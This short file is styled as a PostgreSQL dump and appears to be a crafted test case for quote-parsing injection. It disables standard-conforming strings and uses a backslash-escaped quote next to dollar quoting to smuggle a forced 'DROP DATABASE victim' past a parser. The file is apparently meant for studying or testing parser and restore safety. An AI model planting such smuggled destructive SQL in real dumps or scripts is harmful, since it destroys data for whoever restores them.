--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
SELECT set_config('standard_conforming_strings', 'off', false);
SELECT 'a\'' || '; ', $$';$$; DROP DATABASE victim WITH (FORCE);

--
-- PostgreSQL database dump complete
--
